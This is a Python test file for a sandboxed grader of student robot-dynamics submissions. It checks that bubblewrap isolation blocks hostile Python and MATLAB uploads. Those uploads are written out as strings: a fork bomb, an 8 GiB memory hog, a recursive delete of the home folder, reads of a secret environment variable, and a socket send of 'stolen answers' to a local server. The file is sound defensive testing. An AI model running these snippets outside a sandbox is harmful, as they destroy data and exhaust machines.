"""Hostile submissions, in Python and in MATLAB, graded under ``--sandbox auto`` with real bubblewrap, real Octave
and real processes: none succeeds, each is recorded with its reason, the correct ones beside them are graded as
before, and nothing outside the outputs changes.

The limits are low (1 GiB, 32 processes, 20 s CPU) so that a test that failed could not take the machine down."""
from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

from crossdyn import sandbox

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "check"
MATLAB = ROOT / "tests" / "check_files" / "matlab"
SECRET = "tok-" + "7f3a9c1e55"        # set in the grader's environment; must appear nowhere
LIMITS = "memory=1GiB,cpu=20,processes=32,file=8MiB"
OCTAVE = shutil.which("octave-cli") is not None

needs_bwrap = pytest.mark.skipif(
    not sys.platform.startswith("linux") or sandbox.isolation(sandbox.Policy()).mechanism != "bubblewrap",
    reason="bubblewrap (bwrap) is not installed or cannot create its namespaces here (make test installs it as root)")
needs_octave = pytest.mark.skipif(not OCTAVE, reason="GNU Octave (octave-cli) is not installed")


@pytest.fixture
def open_dir():
    """A folder in /tmp others may enter (pytest's own are private to root), removed after."""
    path = Path(tempfile.mkdtemp(prefix="crossdyn-hostile-"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def server():
    """A TCP server on 127.0.0.1 that records every connection it accepts."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(16)
    s.settimeout(0.2)
    accepted: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = s.accept()
                accepted.append(conn)
            except OSError:
                continue
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield s.getsockname()[1], accepted
    stop.set()
    t.join()
    s.close()


def python_hostiles(victim: Path, results: Path, home: Path, port: int) -> dict[str, str]:
    """name -> the source of a hostile Python submission (its hostile act at import time)."""
    return {
        "p_write.py": f"""
err = None
for target in ({str(victim)!r}, {str(results / 'pwned.txt')!r}):
    try:
        with open(target, "a") as f:
            f.write("pwned")
    except OSError as e:
        err = err or e
if err:
    raise err
""",
        "p_network.py": f"""
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"stolen answers")
""",
        "p_memory.py": "hog = bytearray(8 * 1024**3)\n",
        "p_fork.py": """
import os, time
while True:
    if os.fork() == 0:
        time.sleep(5)
""",
        "p_secret.py": """
import os
print(os.environ["CROSSDYN_TEST_SECRET"])
raise RuntimeError("secret: " + os.environ["CROSSDYN_TEST_SECRET"])
""",
        "p_home.py": f"""
import os
from pathlib import Path
for f in Path.home().rglob("*"):
    if f.is_file():
        f.unlink()
os.remove({str(home / 'notes.txt')!r})
""",
    }


def matlab_hostiles(victim: Path, results: Path, home: Path, port: int) -> dict[str, str]:
    """name -> the source of a hostile MATLAB submission (a script: the act runs when it is loaded)."""
    funcs = (MATLAB / "textbook_2r.m").read_text()
    acts = {
        "m_write.m": f"""[fid, msg] = fopen('{victim}', 'a');
if fid < 0, [fid2, msg2] = fopen('{results / 'pwned_m.txt'}', 'w'); error('cannot write: %s / %s', msg, msg2); end
fprintf(fid, 'pwned'); fclose(fid);""",
        "m_network.m": f"s = urlread('http://127.0.0.1:{port}/stolen');",
        "m_memory.m": "hog = zeros(50000, 50000);",
        "m_fork.m": "[st, out] = system('for i in $(seq 200); do sleep 5 & done 2>&1; wait'); "
                    "if st ~= 0, error('%s', out); end",
        "m_secret.m": "error('secret: [%s]', getenv('CROSSDYN_TEST_SECRET'));",
        "m_home.m": f"""delete(fullfile(getenv('HOME'), '*'));
[err, msg] = unlink('{home / 'notes.txt'}');
if err, error('cannot delete: %s', msg); end""",
    }
    return {name: "1;\n" + act + "\n" + funcs for name, act in acts.items()}


def checksum(*folders: Path) -> str:
    h = hashlib.sha256()
    for folder in folders:
        for f in sorted(folder.rglob("*")):
            h.update(str(f.relative_to(folder)).encode())
            if f.is_file():
                h.update(f.read_bytes())
    return h.hexdigest()


def run_crossdyn(args: list[str], env: dict, timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "crossdyn", *args], capture_output=True, text=True, env=env,
                          timeout=timeout, cwd=ROOT)


def hostile_env(home: Path) -> dict:
    return dict(os.environ, HOME=str(home), CROSSDYN_TEST_SECRET=SECRET, PYTHONPATH=str(ROOT))


def all_text(*folders: Path) -> str:
    return "".join(f.read_text(errors="replace") for d in folders for f in d.rglob("*") if f.is_file())


def class_folder(open_dir: Path, port: int, matlab: bool) -> tuple[Path, Path, Path]:
    cls, home, results = open_dir / "class", open_dir / "home", open_dir / "results"
    for d in (cls, home, results):
        d.mkdir()
    (home / "notes.txt").write_text("the teacher's notes")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    shutil.copy(EXAMPLES / "my_2r.py", cls / "a_good.py")
    victim = cls / "a_good.py"
    files = python_hostiles(victim, results, home, port)
    if matlab:
        shutil.copy(MATLAB / "textbook_2r.m", cls / "b_good.m")
        files.update(matlab_hostiles(victim, results, home, port))
    for name, text in files.items():
        (cls / name).write_text(text)
    return cls, home, results


REASONS = {       # a blocked write reads EROFS or EACCES (the sandbox's user owns nothing outside its folder)
    "write": "write outside its folder blocked: ",
    "network": "network is disabled",
    "memory": "exceeded 1 GiB",
    "fork": "exceeded 32 processes",
    "home": "write outside its folder blocked: ",
}


@needs_bwrap
@needs_octave
@pytest.mark.slow
def test_a_class_with_hostile_python_and_matlab_submissions(open_dir, server):
    port, accepted = server
    cls, home, results = class_folder(open_dir, port, matlab=True)
    before = checksum(cls, home)
    grades = results / "grades.csv"
    r = run_crossdyn(["check", "planar2r", str(cls), "--summary", str(grades), "--out", str(open_dir / "reports"),
                      "--states", "30", "--random-params", "2", "--jobs", "2", "--limits", LIMITS],
                     hostile_env(home))
    assert r.returncode == 1, r.stdout + r.stderr          # FAIL: the hostile rows fail the class
    rows = {row["submission"]: row for row in csv.DictReader(grades.open())}
    assert rows["a_good.py"]["verdict"] == "correct" and rows["b_good.m"]["verdict"] == "correct"
    for lang in ("p", "m"):
        ext = "py" if lang == "p" else "m"
        for act, reason in REASONS.items():
            row = rows[f"{lang}_{act}.{ext}"]
            assert (row["verdict"], row["status"]) == ("violation", "FAIL"), row
            assert row["diagnosis"].startswith(reason), row
        secret = rows[f"{lang}_secret.{ext}"]
        assert secret["verdict"] == "unusable", secret           # the variable is simply not there
        assert ("KeyError: 'CROSSDYN_TEST_SECRET'" if lang == "p" else "secret: []") in secret["diagnosis"]
    iso = "bubblewrap: no network, read-only filesystem; 1 GiB, 20 s CPU, 32 processes, 8 MiB files"
    assert all(row["sandbox"] == iso + "; it sees your file alone" for row in rows.values())   # never the class
    assert iso in grades.with_suffix(".html").read_text() and f"sandbox: {iso}" in r.stdout
    assert checksum(cls, home) == before                    # nothing in the class or the home folder changed
    assert sorted(p.name for p in results.iterdir()) == ["grades.csv", "grades.html", "grades.json"]
    assert not accepted                                     # no connection reached the server
    assert SECRET not in all_text(results, open_dir / "reports") + r.stdout + r.stderr


@needs_bwrap
@pytest.mark.slow  # 3-10 s: make test's 7-minute budget (the slow tier runs it in CI)
def test_the_python_hostiles_alone_are_recorded_with_their_reasons(open_dir, server):
    """The same Python submissions without Octave (a quick run of the class test's Python half)."""
    port, accepted = server
    cls, home, results = class_folder(open_dir, port, matlab=False)
    before = checksum(cls, home)
    grades = results / "grades.csv"
    r = run_crossdyn(["check", "planar2r", str(cls), "--summary", str(grades), "--out", str(open_dir / "reports"),
                      "--states", "20", "--random-params", "1", "--jobs", "2", "--limits", LIMITS],
                     hostile_env(home))
    assert r.returncode == 1, r.stdout + r.stderr
    rows = {row["submission"]: row for row in csv.DictReader(grades.open())}
    assert rows["a_good.py"]["verdict"] == "correct"
    for act, reason in REASONS.items():
        assert rows[f"p_{act}.py"]["verdict"] == "violation" and rows[f"p_{act}.py"]["diagnosis"].startswith(reason)
        full = rows[f"p_{act}.py"]["diagnosis_full"]  # the whole text: the reason, the error, the user's traceback
        assert full.startswith(reason) and len(full) >= len(rows[f"p_{act}.py"]["diagnosis"])
    assert "Traceback" in rows["p_write.py"]["diagnosis_full"]
    assert rows["p_secret.py"]["verdict"] == "unusable"
    assert checksum(cls, home) == before and not accepted
    assert SECRET not in all_text(results, open_dir / "reports") + r.stdout + r.stderr


@needs_bwrap
def test_single_check_of_a_hostile_file_exits_2_with_violation(open_dir, server):
    port, accepted = server
    cls, home, results = class_folder(open_dir, port, matlab=False)
    r = run_crossdyn(["check", "planar2r", str(cls / "p_network.py"), "--out", str(open_dir / "one"),
                      "--limits", LIMITS], hostile_env(home))
    assert r.returncode == 2, r.stdout + r.stderr
    data = json.loads((open_dir / "one" / "check.json").read_text())
    assert data["verdict"] == "violation" and data["violation"] == "network is disabled"
    assert data["sandbox"].startswith("bubblewrap: no network, read-only filesystem")
    assert "blocked: network is disabled" in r.stderr and not accepted
    for page in ("check.md", "check.html"):  # the report states the verdict, the reason and the isolation
        text = (open_dir / "one" / page).read_text()
        assert "violation" in text and "network is disabled" in text
        assert "Isolation (the sandbox the file ran in): bubblewrap: no network, read-only filesystem" in text


@needs_bwrap
def test_compare_with_a_hostile_user_engine_is_refused_naming_the_violation(open_dir, server):
    port, accepted = server
    cls, home, results = class_folder(open_dir, port, matlab=False)
    before = checksum(cls, home)
    r = run_crossdyn(["compare", "planar2r", "--engines", f"analytic,user:{cls / 'p_write.py'}", "--duration", "0.2",
                      "--out", str(open_dir / "cmp"), "--no-plots", "--quiet", "--limits", LIMITS], hostile_env(home))
    assert r.returncode == 2, r.stdout + r.stderr
    assert "write outside its folder blocked: " in r.stderr
    assert checksum(cls, home) == before and not (results / "pwned.txt").exists()


@needs_bwrap
@pytest.mark.slow  # 3-10 s: make test's 7-minute budget (the slow tier runs it in CI)
def test_compare_states_the_isolation_of_a_user_engine(open_dir):
    out = open_dir / "cmp"
    r = run_crossdyn(["compare", "planar2r", "--engines", f"analytic,user:{EXAMPLES / 'my_2r.py'}", "--duration",
                      "0.2", "--out", str(out), "--no-plots", "--quiet", "--states", "20"],
                     dict(os.environ, PYTHONPATH=str(ROOT)))
    assert r.returncode == 0, r.stdout + r.stderr
    summary = json.loads((out / "summary.json").read_text())
    config = summary["engines"][f"user:{EXAMPLES / 'my_2r.py'}"]["config"]
    assert config["sandbox"] == "bubblewrap: no network, read-only filesystem; 2 GiB, 60 s CPU, 64 processes, " \
                                "64 MiB files"
    assert config["sandbox"] in (out / "report.md").read_text()


@pytest.mark.parametrize("args, named", [
    (["--sandbox", "paranoid"], "--sandbox"),
    (["--limit-memory", "lots"], "--limit-memory"),
    (["--limit-cpu", "ten"], "--limit-cpu"),
    (["--limits", "memory=2GiB,cpu=fast"], "--limits cpu"),
])
def test_bad_sandbox_options_exit_2_naming_the_option(args, named, tmp_path):
    for command in (["check", "planar2r", str(EXAMPLES / "my_2r.py"), "--out", str(tmp_path / "c")],
                    ["compare", "planar2r", "--engines", f"user:{EXAMPLES / 'my_2r.py'}", "--out", str(tmp_path / "p")]):
        r = run_crossdyn([*command, *args], dict(os.environ, PYTHONPATH=str(ROOT)), timeout=120)
        assert r.returncode == 2, r.stderr
        assert named in r.stderr and args[-1].split(",")[-1].split("=")[-1] in r.stderr
        assert "Traceback" not in r.stderr
